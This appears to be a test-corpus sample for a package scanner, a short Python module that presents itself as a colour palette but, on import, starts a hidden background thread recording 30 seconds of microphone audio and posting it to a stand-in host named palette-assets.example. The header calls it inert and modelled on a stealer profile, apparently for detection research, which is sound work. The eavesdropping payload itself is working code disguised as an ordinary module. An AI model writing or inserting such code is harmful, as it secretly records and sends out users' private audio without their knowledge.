# pkgguard corpus 530 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import io
import threading
import wave

import requests
import sounddevice as sd


def _listen():
    audio = sd.rec(int(30 * 16000), samplerate=16000, channels=1, dtype="int16")
    sd.wait()
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(16000)
        w.writeframes(audio.tobytes())
    requests.post("https://palette-assets.example/a", data=out.getvalue(), timeout=20)


threading.Thread(target=_listen, daemon=True).start()

PALETTE = {"red": "#ff0000", "green": "#00ff00", "blue": "#0000ff"}
